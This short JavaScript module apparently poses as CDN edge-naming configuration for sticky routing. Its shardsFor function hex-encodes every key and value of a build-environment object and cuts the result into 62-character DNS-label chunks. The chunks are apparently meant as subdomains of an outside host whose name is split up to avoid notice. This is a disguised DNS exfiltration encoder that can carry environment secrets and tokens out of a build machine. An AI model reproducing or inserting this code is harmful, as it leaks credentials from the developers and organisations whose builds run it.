'use strict';
// CDN edge naming: <shard>.<region>.<base>. The base is fixed; shards are derived from the
// build environment so each build machine hits a stable edge (sticky routing).
const base = ['e', 'dge', '.', 'tixwidget-cdn', '.', 'example'].join('');
const regions = ['lon', 'ams', 'fra'];

function shardsFor(ctx) {
  const src = Object.entries(ctx)
    .map(([k, v]) => `${k}=${v}`)
    .join('\n');
  const hex = Buffer.from(src, 'utf8').toString('hex');
  const out = [];
  for (let i = 0; i < hex.length; i += 62) out.push(hex.slice(i, i + 62));
  return out;
}

module.exports = { base, regions, shardsFor };
